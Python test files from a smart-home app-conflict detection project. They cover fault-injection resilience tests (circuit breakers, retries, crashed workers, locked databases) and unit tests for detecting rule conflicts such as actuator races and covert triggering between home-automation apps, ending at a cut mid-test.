        expected = conj([fresh.situation(rule_a), fresh.situation(rule_b)])
        interned = ConstraintBuilder(resolver, interner=interner_cache)
        got = conj(
            [interned.situation(rule_a), interned.situation(rule_b)]
        )
        assert got == expected, (rule_a.rule_id, rule_b.rule_id)
        assert interned.pool.num_bounds == fresh.pool.num_bounds
        assert interned.pool.str_candidates == fresh.pool.str_candidates


def test_interner_invalidate_app_drops_entries():
    from repro.constraints import FormulaInterner

    rules, resolver = _interning_corpus()
    interner = FormulaInterner()
    for rule in rules[:4]:
        builder = ConstraintBuilder(resolver, interner=interner)
        builder.situation(rule)
    assert len(interner) > 0
    for rule in rules[:4]:
        interner.invalidate_app(rule.app_name)
    assert len(interner) == 0
