"""Fault-tolerance batteries (DESIGN.md §15).

Chaos principle under test: recovery must be invisible in the results.
With deterministic fault plans injecting worker crashes, hung solves,
killed pool processes and transient backend I/O errors, every audit
must still produce byte-identical threats, solve caches and store
bytes — and every retry / requeue / breaker event must be accounted
exactly once in the recovery counters.

Run under both the default hash seed and ``PYTHONHASHSEED=0``
(``make test-faults``) so recovery-path merges prove as
iteration-order-clean as the happy path.
"""

import json
import os
import socket
import sqlite3
import time
import warnings

import pytest

from repro.constraints import TypeBasedResolver
from repro.constraints.dispatch import (
    ProcessPoolDispatcher,
    SerialDispatcher,
    SolveTask,
    ThreadPoolDispatcher,
)
from repro.constraints.solver import VarPool
from repro.constraints.terms import AffineTerm, CmpAtom, lit
from repro.constraints.solvecache import SQLiteSolveCache
from repro.corpus import demo_apps
from repro.detector import DetectionPipeline, DetectionStore
from repro.detector.storage import SQLiteStoreBackend
from repro.resilience import CircuitBreaker, RetryPolicy
from repro.rules.extractor import RuleExtractor
from repro.service import HomeGuardService
from repro.service.errors import (
    TransportConnectionError,
    UnavailableError,
)
from repro.service.transport import FleetClient, serve_background
from repro.testing.faults import (
    FaultPlan,
    FaultSpec,
    InjectedFault,
    fault_hook,
    shielded,
)

# ----------------------------------------------------------------------
# Corpus + audit helpers (mirroring tests/test_dispatch_equivalence.py)


def _demo_corpus():
    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in demo_apps():
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values
    return rulesets, hints, values


def _full_threats(reports):
    return [
        (
            report.app_name,
            threat.type.value,
            threat.rule_a.rule_id,
            threat.rule_b.rule_id,
            threat.detail,
            threat.witness,
        )
        for report in reports
        for threat in report.threats
    ]


def _store_bytes(pipeline, rulesets, tmp_path, label):
    store_dir = tmp_path / label
    DetectionStore(store_dir).save(
        pipeline, rulesets={r.app_name: r for r in rulesets}
    )
    return {
        path.name: path.read_bytes()
        for path in sorted(store_dir.iterdir())
    }


def _audit(corpus, dispatcher, tmp_path, label, shared_cache=None):
    rulesets, hints, values = corpus
    pipeline = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values),
        dispatcher=dispatcher,
        shared_cache=shared_cache,
    )
    try:
        reports = pipeline.audit_store(rulesets)
        return {
            "threats": _full_threats(reports),
            "caches": json.dumps(
                pipeline.engine.export_caches(), default=str
            ),
            "counters": (
                pipeline.stats.solver_calls,
                pipeline.stats.cache_hits,
                pipeline.stats.pairs_examined,
                pipeline.stats.prescreen_pruned_pairs,
                pipeline.stats.planned_pairs,
            ),
            "faults": (
                pipeline.stats.tasks_retried,
                pipeline.stats.chunks_requeued,
                pipeline.stats.pool_failures,
                pipeline.stats.degraded_serial,
            ),
            "store": _store_bytes(pipeline, rulesets, tmp_path, label),
        }
    finally:
        pipeline.close()


def _assert_equivalent(outcome, reference, label):
    assert outcome["threats"] == reference["threats"], label
    assert outcome["caches"] == reference["caches"], label
    assert outcome["store"] == reference["store"], label
    assert outcome["counters"] == reference["counters"], label


# ----------------------------------------------------------------------
# CircuitBreaker


class _FakeClock:
    def __init__(self):
        self.now = 100.0

    def __call__(self):
        return self.now

    def advance(self, seconds):
        self.now += seconds


def test_breaker_opens_after_threshold_and_recovers():
    clock = _FakeClock()
    breaker = CircuitBreaker(
        failure_threshold=3, cooldown_seconds=5.0, clock=clock, name="t"
    )
    assert breaker.state == "closed"
    breaker.record_failure()
    breaker.record_failure()
    assert breaker.state == "closed" and breaker.allow()
    breaker.record_failure()  # third consecutive failure: open
    assert breaker.state == "open"
    assert not breaker.allow()
    assert breaker.times_opened == 1
    clock.advance(4.999)
    assert not breaker.allow()  # cooldown not yet elapsed
    clock.advance(0.001)
    assert breaker.state == "half-open"
    assert breaker.allow()  # the probe call
    breaker.record_success()
    assert breaker.state == "closed"
    assert breaker.times_opened == 1


def test_breaker_failed_probe_reopens():
    clock = _FakeClock()
    breaker = CircuitBreaker(
        failure_threshold=1, cooldown_seconds=2.0, clock=clock
    )
    breaker.record_failure()
    assert breaker.state == "open"
    clock.advance(2.0)
    assert breaker.state == "half-open"
    breaker.record_failure()  # probe failed: straight back to open
    assert breaker.state == "open"
    assert breaker.times_opened == 2
    clock.advance(2.0)
    breaker.record_success()
    assert breaker.state == "closed"


def test_breaker_success_resets_failure_streak():
    breaker = CircuitBreaker(failure_threshold=2, cooldown_seconds=1.0)
    breaker.record_failure()
    breaker.record_success()
    breaker.record_failure()
    assert breaker.state == "closed"  # streak broken: never opened


def test_breaker_validation():
    with pytest.raises(ValueError):
        CircuitBreaker(failure_threshold=0)
    with pytest.raises(ValueError):
        CircuitBreaker(cooldown_seconds=-1.0)


# ----------------------------------------------------------------------
# RetryPolicy


def test_retry_policy_delays_are_deterministic_and_bounded():
    policy = RetryPolicy(
        attempts=5, base_delay=0.05, factor=2.0, max_delay=0.3,
        jitter=0.1, seed=7,
    )
    first = policy.delays()
    assert first == RetryPolicy(
        attempts=5, base_delay=0.05, factor=2.0, max_delay=0.3,
        jitter=0.1, seed=7,
    ).delays()
    assert len(first) == 4
    for i, delay in enumerate(first, start=1):
        raw = min(0.3, 0.05 * 2.0 ** (i - 1))
        assert raw * 0.9 <= delay <= raw * 1.1
    # A different seed jitters differently; zero jitter is exact.
    assert first != RetryPolicy(
        attempts=5, base_delay=0.05, factor=2.0, max_delay=0.3,
        jitter=0.1, seed=8,
    ).delays()
    exact = RetryPolicy(attempts=4, base_delay=0.1, jitter=0.0)
    assert exact.delays() == [0.1, 0.2, 0.4]


def test_retry_policy_run_retries_then_raises():
    slept = []
    calls = []

    def flaky():
        calls.append(1)
        raise TimeoutError("down")

    policy = RetryPolicy(attempts=3, base_delay=0.01, jitter=0.0)
    with pytest.raises(TimeoutError):
        policy.run(flaky, retryable=(TimeoutError,), sleep=slept.append)
    assert len(calls) == 3
    assert slept == policy.delays()

    # Non-retryable errors propagate immediately.
    def boom():
        calls.append(1)
        raise KeyError("no")

    calls.clear()
    with pytest.raises(KeyError):
        policy.run(boom, retryable=(TimeoutError,), sleep=slept.append)
    assert len(calls) == 1


def test_retry_policy_validation():
    with pytest.raises(ValueError):
        RetryPolicy(attempts=0)
    with pytest.raises(ValueError):
        RetryPolicy(jitter=1.0)
    with pytest.raises(ValueError):
        RetryPolicy(base_delay=-0.1)
    with pytest.raises(ValueError):
        RetryPolicy().delay(0)


# ----------------------------------------------------------------------
# FaultPlan harness


def test_fault_spec_validation():
    with pytest.raises(ValueError):
        FaultSpec("dispatch.chunk", kind="meteor")
    with pytest.raises(ValueError):
        FaultSpec("not.a.point")
    with pytest.raises(ValueError):
        FaultSpec("cache.get", probability=1.5)


def test_fault_plan_nth_and_every_fire_exactly(tmp_path):
    log = tmp_path / "faults.jsonl"
    plan = FaultPlan(
        [FaultSpec("cache.get", kind="io-error", nth=(2, 5))],
        log_path=log,
    )
    with plan:
        outcomes = []
        for _ in range(6):
            try:
                fault_hook("cache.get", key="k")
                outcomes.append("ok")
            except sqlite3.OperationalError:
                outcomes.append("fault")
    assert outcomes == ["ok", "fault", "ok", "ok", "fault", "ok"]
    assert plan.calls("cache.get") == 6
    assert plan.fired("cache.get") == 2
    assert plan.fired_total() == 2
    events = plan.events()
    assert [e["index"] for e in events] == [2, 5]
    assert all(e["point"] == "cache.get" for e in events)
    assert all(e["kind"] == "io-error" for e in events)
    # Cleared: the hook is inert again.
    fault_hook("cache.get", key="k")
    assert plan.calls("cache.get") == 6


def test_fault_plan_probability_is_seed_deterministic():
    def pattern(seed):
        fired = []
        with FaultPlan(
            [FaultSpec("dispatch.chunk", probability=0.3)], seed=seed
        ):
            for _ in range(40):
                try:
                    fault_hook("dispatch.chunk")
                    fired.append(False)
                except InjectedFault:
                    fired.append(True)
        return fired

    first = pattern(42)
    assert first == pattern(42)
    assert any(first) and not all(first)
    assert first != pattern(43)


def test_shielded_suppresses_matching_points():
    with FaultPlan([FaultSpec("dispatch.chunk", every=1)]) as plan:
        with pytest.raises(InjectedFault):
            fault_hook("dispatch.chunk")
        with shielded("dispatch."):
            fault_hook("dispatch.chunk")  # suppressed, not even counted
        with pytest.raises(InjectedFault):
            fault_hook("dispatch.chunk")
    assert plan.calls("dispatch.chunk") == 2


# ----------------------------------------------------------------------
# Chaos equivalence: crash-injected audits are byte-identical


# (name, dispatcher factory, fault cadence).  The serial reference
# executes one chunk per planning round, so its cadence is every=1;
# the pooled backends chunk finely and take a fault every third chunk.
CHAOS_BACKENDS = [
    ("serial", lambda: SerialDispatcher(), 1),
    ("thread2", lambda: ThreadPoolDispatcher(
        2, chunk_tasks=2, plan_chunk_pairs=2), 3),
    ("process2", lambda: ProcessPoolDispatcher(
        2, chunk_tasks=2, plan_chunk_pairs=2), 3),
]


@pytest.mark.parametrize("name,factory,every", CHAOS_BACKENDS)
def test_chunk_crashes_never_change_results(name, factory, every, tmp_path):
    corpus = _demo_corpus()
    reference = _audit(corpus, None, tmp_path, "inline")
    assert reference["threats"], "corpus produced no threats to compare"
    assert reference["faults"] == (0, 0, 0, 0)
    dispatcher = factory()
    # Install before the audit so lazily forked pool workers inherit
    # the plan and its shared counters.
    # FAULT_EVENT_LOG (set by `make test-faults`) collects every
    # injected event in one append-mode file for the CI artifact.
    plan = FaultPlan(
        [FaultSpec("dispatch.chunk", kind="error", every=every)],
        log_path=os.environ.get("FAULT_EVENT_LOG")
        or tmp_path / f"{name}.jsonl",
    )
    with plan, warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        outcome = _audit(corpus, dispatcher, tmp_path, name)
    assert plan.fired("dispatch.chunk") > 0, name
    _assert_equivalent(outcome, reference, name)
    retried, requeued, failures, degraded = outcome["faults"]
    assert failures > 0, name
    assert requeued > 0, name
    # Exactly-once accounting: the per-batch deltas drained into the
    # stats equal the dispatcher's lifetime totals (fresh dispatcher),
    # and the delta slots are empty after the drain.
    totals = dispatcher.fault_totals()
    assert (retried, requeued, failures, degraded) == (
        totals["tasks_retried"],
        totals["chunks_requeued"],
        totals["pool_failures"],
        totals["degraded_serial"],
    ), name
    assert dispatcher.take_fault_counters() == {
        "tasks_retried": 0,
        "chunks_requeued": 0,
        "pool_failures": 0,
        "degraded_serial": 0,
    }, name


def test_hung_solve_hits_deadline_and_recovers_inline(tmp_path):
    corpus = _demo_corpus()
    reference = _audit(corpus, None, tmp_path, "inline")
    dispatcher = ThreadPoolDispatcher(
        2, chunk_tasks=4, plan_chunk_pairs=10_000, solve_timeout=0.05
    )
    with FaultPlan(
        [FaultSpec("dispatch.chunk", kind="hang", delay=0.4, nth=(1,))]
    ) as plan, warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        outcome = _audit(corpus, dispatcher, tmp_path, "hang")
    assert plan.fired("dispatch.chunk") == 1
    _assert_equivalent(outcome, reference, "hang")
    retried, requeued, failures, degraded = outcome["faults"]
    assert failures >= 1  # the hung chunk (plus any queued behind it)
    assert requeued >= 1
    assert degraded == 0


def _synthetic_tasks(count):
    """Trivial solvable tasks for driving the solve stream directly."""
    tasks = []
    for index in range(count):
        pool = VarPool()
        pool.declare_num("x", 0.0, 10.0)
        formula = lit(
            CmpAtom(AffineTerm("x"), ">=", AffineTerm.const(index % 5))
        )
        tasks.append(
            SolveTask(key=("synthetic", str(index), "s"), pool=pool,
                      formula=formula)
        )
    return tasks


def _verdicts(outcomes):
    return {
        key: (o.result.sat, o.result.witness)
        for key, o in outcomes.items()
    }


def test_split_retry_accounting_is_exact():
    # One chunk of 8 fails once, then both halves succeed: exactly
    # 1 pool failure, 2 requeued chunks, 8 retried tasks.
    tasks = _synthetic_tasks(8)
    with SerialDispatcher() as serial:
        reference = _verdicts(serial.run(tasks))
    dispatcher = ThreadPoolDispatcher(2, chunk_tasks=8)
    with dispatcher, FaultPlan(
        [FaultSpec("dispatch.chunk", kind="error", nth=(1,))]
    ) as plan:
        outcomes = dispatcher.run(tasks)
    assert plan.fired("dispatch.chunk") == 1
    assert _verdicts(outcomes) == reference
    assert dispatcher.fault_totals() == {
        "tasks_retried": 8,
        "chunks_requeued": 2,
        "pool_failures": 1,
        "degraded_serial": 0,
    }


def test_singleton_retry_falls_back_inline_with_a_warning():
    # Every pooled attempt fails: the chunk of 4 splits to halves,
    # halves split to singletons, and each singleton is warned about
    # and re-executed inline (shielded), so the run still completes.
    tasks = _synthetic_tasks(4)
    with SerialDispatcher() as serial:
        reference = _verdicts(serial.run(tasks))
    dispatcher = ThreadPoolDispatcher(
        2, chunk_tasks=4, max_pool_failures=100
    )
    with dispatcher, FaultPlan(
        [FaultSpec("dispatch.chunk", kind="error", every=1)]
    ), pytest.warns(RuntimeWarning):
        outcomes = dispatcher.run(tasks)
    assert _verdicts(outcomes) == reference
    totals = dispatcher.fault_totals()
    # 1 original chunk + 2 halves + 4 singletons all failed pooled.
    assert totals["pool_failures"] == 7
    # Requeues: 2 halves + 4 singletons re-pooled + 4 inline retries.
    assert totals["chunks_requeued"] == 10
    # Retried tasks: 2+2 at the half level, 4 singleton re-pools,
    # 4 inline re-executions.
    assert totals["tasks_retried"] == 12
    assert totals["degraded_serial"] == 0


def test_killed_worker_breaks_pool_and_recovers(tmp_path):
    corpus = _demo_corpus()
    reference = _audit(corpus, None, tmp_path, "inline")
    dispatcher = ProcessPoolDispatcher(2, chunk_tasks=4, plan_chunk_pairs=8)
    with FaultPlan(
        [FaultSpec("dispatch.chunk", kind="kill", nth=(1,))]
    ) as plan, warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        outcome = _audit(corpus, dispatcher, tmp_path, "kill")
    assert plan.fired("dispatch.chunk") == 1
    _assert_equivalent(outcome, reference, "kill")
    # The dead worker broke the pool: at least its chunk failed and was
    # re-executed; the pool was rebuilt and finished the batch pooled.
    assert outcome["faults"][2] >= 1  # pool_failures
    assert outcome["faults"][1] >= 1  # chunks_requeued


def test_relentless_faults_trip_degraded_serial_mode(tmp_path):
    corpus = _demo_corpus()
    reference = _audit(corpus, None, tmp_path, "inline")
    dispatcher = ThreadPoolDispatcher(
        2, chunk_tasks=2, plan_chunk_pairs=8, max_pool_failures=2
    )
    with FaultPlan(
        [FaultSpec("dispatch.chunk", kind="error", every=1)]
    ), pytest.warns(RuntimeWarning, match="degrading to serial"):
        outcome = _audit(corpus, dispatcher, tmp_path, "degraded")
    _assert_equivalent(outcome, reference, "degraded")
    assert outcome["faults"][3] == 1  # degraded_serial: tripped once
    assert outcome["faults"][2] >= 2  # at least max_pool_failures
    # Degraded mode is per-batch: the next batch re-arms the pool.
    assert dispatcher.degraded is True
    dispatcher.for_batch(1)
    assert dispatcher.degraded is False
    dispatcher.close()


def test_shared_cache_io_errors_degrade_to_resolves(tmp_path):
    # Transient cache I/O errors must cost only performance: detection
    # re-solves what the cache cannot serve, results are unchanged.
    corpus = _demo_corpus()
    reference = _audit(corpus, None, tmp_path, "inline")
    cache = SQLiteSolveCache(
        tmp_path / "cache.db",
        breaker=CircuitBreaker(failure_threshold=3, cooldown_seconds=60.0),
    )
    try:
        with FaultPlan(
            [
                FaultSpec("cache.get", kind="io-error", every=2),
                FaultSpec("cache.put", kind="io-error", every=2),
            ]
        ) as plan, warnings.catch_warnings():
            warnings.simplefilter("ignore", RuntimeWarning)
            outcome = _audit(
                corpus, SerialDispatcher(), tmp_path, "cache-chaos",
                shared_cache=cache,
            )
        assert plan.fired_total() > 0
        assert outcome["threats"] == reference["threats"]
        assert outcome["caches"] == reference["caches"]
        assert outcome["store"] == reference["store"]
    finally:
        cache.close()


def test_sqlite_cache_breaker_opens_and_recovers(tmp_path):
    cache = SQLiteSolveCache(
        tmp_path / "cache.db",
        breaker=CircuitBreaker(failure_threshold=2, cooldown_seconds=0.0),
    )
    try:
        entry = {"verdict": "sat"}
        with FaultPlan(
            [FaultSpec("cache.put", kind="io-error", every=1)]
        ):
            assert cache.put("k1", entry) is False
            with pytest.warns(RuntimeWarning, match="circuit breaker"):
                assert cache.put("k1", entry) is False  # opens here
        # Zero cooldown: the next call is the half-open probe, and with
        # faults cleared it succeeds and closes the breaker.
        assert cache.breaker_state in ("half-open", "open")
        assert cache.put("k1", entry) is True
        assert cache.breaker_state == "closed"
        assert cache.get("k1") == entry
    finally:
        cache.close()


# ----------------------------------------------------------------------
# SQLite store under a locked database (satellite: degradation + no
# data loss once the lock clears)


def test_store_backend_survives_locked_database(tmp_path):
    db = tmp_path / "store.sqlite"
    backend = SQLiteStoreBackend(
        db, namespace="h1", busy_timeout_ms=5,
        breaker=CircuitBreaker(failure_threshold=2, cooldown_seconds=0.0),
    )
    assert backend.write_doc("snapshot", "before-lock") > 0

    locker = sqlite3.connect(str(db), timeout=0.1)
    try:
        locker.execute("BEGIN IMMEDIATE")  # hold the write lock
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", RuntimeWarning)
            # Writes degrade to zero bytes — never an exception, never
            # a hang (the 5ms busy timeout gives up fast).
            assert backend.write_doc("snapshot", "during-lock") == 0
            assert backend.append_journal("journal", "line-1") == 0
            assert backend.breaker_state in ("open", "half-open")
        # Reads of committed state still work (WAL readers don't need
        # the write lock), so nothing already durable is lost.
        assert backend.read_doc("snapshot") == "before-lock"
    finally:
        locker.rollback()
        locker.close()

    # Lock cleared + zero cooldown: the half-open probe succeeds and
    # service resumes with no data loss for everything after it.
    assert backend.write_doc("snapshot", "after-lock") > 0
    assert backend.breaker_state == "closed"
    assert backend.read_doc("snapshot") == "after-lock"
    assert backend.append_journal("journal", "line-2") > 0
    assert backend.read_journal("journal") == ["line-2"]


# ----------------------------------------------------------------------
# Dispatcher API details


class _Unpicklable(TypeBasedResolver):
    def __init__(self, **kwargs):
        super().__init__(**kwargs)
        self.live_handle = lambda: None


def test_unpicklable_resolver_warns_by_name():
    dispatcher = ProcessPoolDispatcher(2)
    with pytest.warns(RuntimeWarning, match="_Unpicklable.*not.*picklable"):
        assert dispatcher.encode_resolver(_Unpicklable()) is None
    # A picklable resolver encodes silently.
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert dispatcher.encode_resolver(TypeBasedResolver()) is not None
    dispatcher.close()


def test_dispatcher_validates_fault_tolerance_params():
    with pytest.raises(ValueError):
        ThreadPoolDispatcher(2, solve_timeout=0.0)
    with pytest.raises(ValueError):
        ThreadPoolDispatcher(2, max_pool_failures=0)


# ----------------------------------------------------------------------
# Transport: typed connection errors, retries, deadlines


def _dead_port() -> int:
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    return port


def test_client_raises_typed_transport_connection_error():
    client = FleetClient("127.0.0.1", _dead_port(), timeout=2.0)
    with pytest.raises(TransportConnectionError) as excinfo:
        client.status()
    error = excinfo.value
    assert error.code == "transport-connection"
    assert error.details["method"] == "status"
    assert error.details["host"] == "127.0.0.1"
    # Compatibility: the typed error is still a ConnectionError, so
    # pre-taxonomy `except OSError` callers keep working.
    assert isinstance(error, ConnectionError)


def test_client_retry_backs_off_deterministically():
    slept = []
    policy = RetryPolicy(attempts=3, base_delay=0.01, jitter=0.0)
    client = FleetClient(
        "127.0.0.1", _dead_port(), timeout=2.0,
        retry=policy, sleep=slept.append,
    )
    with pytest.raises(TransportConnectionError):
        client.call("status")
    assert slept == policy.delays()  # one backoff per failed attempt


def test_client_retry_recovers_when_server_appears():
    # First attempt hits a dead port; the injected sleep "fails the
    # server over" to a live instance and the retry succeeds — the
    # client-visible contract of retryable transport failures.
    service = HomeGuardService(workers=None)
    with serve_background(service, own_service=True) as background:
        client = FleetClient(
            "127.0.0.1", _dead_port(), timeout=2.0,
            retry=RetryPolicy(attempts=3, base_delay=0.0, jitter=0.0),
        )

        def failover(_delay):
            client.port = background.port

        client._sleep = failover
        assert client.status().state == "serving"


def test_server_sheds_requests_past_deadline():
    service = HomeGuardService(workers=None)
    with serve_background(
        service, own_service=True, request_deadline_seconds=1e-9
    ) as background:
        with FleetClient(background.host, background.port) as client:
            with pytest.raises(UnavailableError) as excinfo:
                client.call("echo", {"kind": "x"})
            error = excinfo.value
            assert error.details["reason"] == "deadline-exceeded"
            assert error.details["retryable"] is True
            assert error.details["queued_seconds"] > 0
            # status is answered inline (no queue), so it never sheds —
            # and it reports the shed request.
            record = client.status()
            assert record.deadline_rejections == 1
            assert record.internal_errors == 0


def test_server_status_reports_fault_surface(tmp_path):
    service = HomeGuardService(
        workers=None,
        solve_cache=f"sqlite:{tmp_path / 'cache.db'}",
        store_root=tmp_path / "homes",
        store_backend="sqlite",
    )
    with serve_background(service, own_service=True) as background:
        with FleetClient(background.host, background.port) as client:
            record = client.status()
            assert record.breaker_states == {
                "solve-cache": "closed",
                "store": "closed",
            }
            assert record.tasks_retried == 0
            assert record.degraded_serial == 0
            assert record.deadline_rejections == 0


def test_injected_write_fault_is_survivable(tmp_path):
    # A response lost to a broken socket write: the server closes the
    # connection (never leaves a half-written response on a keep-alive
    # stream) and the client's reconnect path resends transparently.
    service = HomeGuardService(workers=None)
    with serve_background(service, own_service=True) as background:
        plan = FaultPlan(
            [FaultSpec("transport.write", kind="disconnect", nth=(1,))],
            log_path=tmp_path / "write.jsonl",
        )
        with plan:
            with FleetClient(background.host, background.port) as client:
                assert client.status().state == "serving"
        assert plan.fired("transport.write") == 1
        events = plan.events()
        assert events[0]["point"] == "transport.write"
        assert events[0]["bytes"] > 0
        # The server stayed healthy: no internal errors, next calls fine.
        with FleetClient(background.host, background.port) as client:
            assert client.status().internal_errors == 0


# ----------------------------------------------------------------------
# Service integration: faults during fleet audits stay invisible


def test_service_audit_with_chunk_faults_matches_clean_run(tmp_path):
    from repro.service.schemas import (
        AuditRequest,
        DecisionRequest,
        InstallRequest,
    )

    def run_fleet(dispatcher, plan=None):
        # Same home id in both runs (separate service instances), so
        # the serialized reports are comparable byte-for-byte.
        service = HomeGuardService(workers=dispatcher)
        with service:
            service.create_home("home-demo")
            apps = list(demo_apps())
            service.preload(apps)
            installed = []
            ctx = plan if plan is not None else _NullContext()
            with ctx, warnings.catch_warnings():
                warnings.simplefilter("ignore", RuntimeWarning)
                for app in apps:
                    session = service.install(
                        InstallRequest(
                            home_id="home-demo",
                            app_name=app.name,
                            devices=dict(app.type_hints),
                            values=dict(app.values),
                        )
                    )
                    installed.append(session.report.to_json())
                    # Keep each app so later installs audit against it
                    # (pending sessions never commit to the index).
                    service.decide(
                        DecisionRequest(
                            home_id="home-demo",
                            session_id=session.session_id,
                            decision="keep",
                        )
                    )
                reports = service.audit(
                    AuditRequest(home_id="home-demo")
                )
            return installed, [r.to_json() for r in reports]

    class _NullContext:
        def __enter__(self):
            return self

        def __exit__(self, *exc_info):
            return False

    clean = run_fleet(SerialDispatcher())
    chaos_dispatcher = ThreadPoolDispatcher(2, chunk_tasks=2)
    chaos = run_fleet(
        chaos_dispatcher,
        FaultPlan([FaultSpec("dispatch.chunk", kind="error", every=2)]),
    )
    assert chaos == clean
    totals = chaos_dispatcher.fault_totals()
    assert totals["pool_failures"] > 0
