"""Unit tests for CAI threat detection (paper Table I categories)."""

import pytest

from repro.constraints import TypeBasedResolver
from repro.detector import DetectionEngine, Threat, ThreatType
from repro.detector.analysis import (
    action_triggers,
    actions_contradict,
    command_target,
    condition_device_attrs,
    goal_conflict_channels,
    trigger_value_constraints,
)
from repro.detector.chains import AllowedList, find_chains
from repro.rules import extract_rules


def rules_of(source, app_name):
    return extract_rules(source, app_name).rules


def make_engine(hints, values=None):
    return DetectionEngine(
        TypeBasedResolver(type_hints=hints, values=values or {})
    )


# ----------------------------------------------------------------------
# Actuator Race

LIGHT_ON = '''
input "contact1", "capability.contactSensor"
input "light1", "capability.switch"
def installed() { subscribe(contact1, "contact.open", h) }
def h(evt) { light1.on() }
'''

LIGHT_OFF = '''
input "contact2", "capability.contactSensor"
input "light2", "capability.switch"
def installed() { subscribe(contact2, "contact.open", h) }
def h(evt) { light2.off() }
'''


def test_actuator_race_detected():
    r1 = rules_of(LIGHT_ON, "OnApp")[0]
    r2 = rules_of(LIGHT_OFF, "OffApp")[0]
    engine = make_engine({
        "OnApp": {"contact1": "contactSensor", "light1": "light"},
        "OffApp": {"contact2": "contactSensor", "light2": "light"},
    })
    threats = engine.detect_pair(r1, r2)
    assert any(t.type is ThreatType.ACTUATOR_RACE for t in threats)


def test_no_race_on_different_device_types():
    r1 = rules_of(LIGHT_ON, "OnApp")[0]
    r2 = rules_of(LIGHT_OFF, "OffApp")[0]
    engine = make_engine({
        "OnApp": {"contact1": "contactSensor", "light1": "light"},
        "OffApp": {"contact2": "contactSensor", "light2": "fan"},
    })
    threats = engine.detect_pair(r1, r2)
    assert not any(t.type is ThreatType.ACTUATOR_RACE for t in threats)


def test_no_race_when_conditions_disjoint():
    source_a = '''
input "c1", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    if (location.mode == "Away") l1.on()
}
'''
    source_b = '''
input "c2", "capability.contactSensor"
input "l2", "capability.switch"
def installed() { subscribe(c2, "contact.open", h) }
def h(evt) {
    if (location.mode == "Home") l2.off()
}
'''
    r1 = rules_of(source_a, "A")[0]
    r2 = rules_of(source_b, "B")[0]
    engine = make_engine({
        "A": {"c1": "contactSensor", "l1": "light"},
        "B": {"c2": "contactSensor", "l2": "light"},
    })
    threats = engine.detect_pair(r1, r2)
    # location.mode cannot be Away and Home at once.
    assert not any(t.type is ThreatType.ACTUATOR_RACE for t in threats)


def test_same_command_not_a_race():
    r1 = rules_of(LIGHT_ON, "OnApp")[0]
    r2 = rules_of(LIGHT_ON.replace("contact1", "c9").replace("light1", "l9"), "OnApp2")[0]
    engine = make_engine({
        "OnApp": {"contact1": "contactSensor", "light1": "light"},
        "OnApp2": {"c9": "contactSensor", "l9": "light"},
    })
    threats = engine.detect_pair(r1, r2)
    assert not any(t.type is ThreatType.ACTUATOR_RACE for t in threats)


def test_parameterized_command_race():
    dim_a = '''
input "m1", "capability.motionSensor"
input "d1", "capability.switchLevel"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) { d1.setLevel(10) }
'''
    dim_b = '''
input "m2", "capability.motionSensor"
input "d2", "capability.switchLevel"
def installed() { subscribe(m2, "motion.active", h) }
def h(evt) { d2.setLevel(90) }
'''
    r1 = rules_of(dim_a, "DimA")[0]
    r2 = rules_of(dim_b, "DimB")[0]
    engine = make_engine({
        "DimA": {"m1": "motionSensor", "d1": "dimmer"},
        "DimB": {"m2": "motionSensor", "d2": "dimmer"},
    })
    threats = engine.detect_pair(r1, r2)
    assert any(t.type is ThreatType.ACTUATOR_RACE for t in threats)


# ----------------------------------------------------------------------
# Goal Conflict

HEATER_ON = '''
input "t1", "capability.temperatureMeasurement"
input "heater1", "capability.switch"
def installed() { subscribe(t1, "temperature", h) }
def h(evt) {
    if (evt.value.toInteger() < 65) heater1.on()
}
'''

WINDOW_OPEN = '''
input "lux1", "capability.illuminanceMeasurement"
input "window1", "capability.switch"
def installed() { subscribe(lux1, "illuminance", h) }
def h(evt) {
    if (evt.value.toInteger() < 40) window1.on()
}
'''


def test_goal_conflict_heater_vs_window():
    r1 = rules_of(HEATER_ON, "Heat")[0]
    r2 = rules_of(WINDOW_OPEN, "Window")[0]
    engine = make_engine({
        "Heat": {"t1": "temperatureSensor", "heater1": "heater"},
        "Window": {"lux1": "illuminanceSensor", "window1": "windowOpener"},
    })
    threats = engine.detect_pair(r1, r2)
    conflicts = [t for t in threats if t.type is ThreatType.GOAL_CONFLICT]
    assert conflicts
    assert "temperature" in conflicts[0].detail


def test_goal_conflict_channels_helper():
    r1 = rules_of(HEATER_ON, "Heat")[0]
    r2 = rules_of(WINDOW_OPEN, "Window")[0]
    resolver = TypeBasedResolver(type_hints={
        "Heat": {"t1": "temperatureSensor", "heater1": "heater"},
        "Window": {"lux1": "illuminanceSensor", "window1": "windowOpener"},
    })
    assert "temperature" in goal_conflict_channels(resolver, r1, r2)


# ----------------------------------------------------------------------
# Covert Triggering / Self Disabling / Loop Triggering

TV_REMOTE = '''
input "btn1", "capability.button"
input "tv1", "capability.switch"
def installed() { subscribe(btn1, "button.pushed", h) }
def h(evt) { tv1.on() }
'''

TV_WATCHER = '''
input "tv2", "capability.switch"
input "lamp1", "capability.switch"
def installed() { subscribe(tv2, "switch.on", h) }
def h(evt) { lamp1.off() }
'''


def test_covert_triggering_direct():
    r1 = rules_of(TV_REMOTE, "Remote")[0]
    r2 = rules_of(TV_WATCHER, "Watcher")[0]
    engine = make_engine({
        "Remote": {"btn1": "button", "tv1": "tv"},
        "Watcher": {"tv2": "tv", "lamp1": "floorLamp"},
    })
    threats = engine.detect_pair(r1, r2)
    cts = [t for t in threats if t.type is ThreatType.COVERT_TRIGGERING]
    assert cts
    assert cts[0].rule_a.app_name == "Remote"


def test_no_covert_triggering_when_filter_mismatches():
    off_watcher = TV_WATCHER.replace("switch.on", "switch.off")
    r1 = rules_of(TV_REMOTE, "Remote")[0]
    r2 = rules_of(off_watcher, "Watcher")[0]
    engine = make_engine({
        "Remote": {"btn1": "button", "tv1": "tv"},
